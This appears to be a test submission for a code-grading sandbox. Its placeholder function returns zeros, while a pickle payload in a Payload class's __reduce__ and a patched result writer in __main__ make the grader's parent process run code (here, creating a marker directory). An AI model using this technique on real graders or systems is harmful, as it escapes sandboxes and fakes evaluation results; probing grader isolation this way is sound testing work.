"""ex04 zero: swaps the sandbox's result writer for one whose pickle would run code in the parent."""
import os
import sys

import torch


class Payload:
    def __reduce__(self):
        return (os.makedirs, ("/tmp/minidiff-grader-pwned",))


main = sys.modules.get("__main__")
if hasattr(main, "_plain"):
    main._plain = lambda value: dict(type="Tensor", tensor=Payload())


def timestep_embedding(t, dim):
    return torch.zeros(len(t), dim)
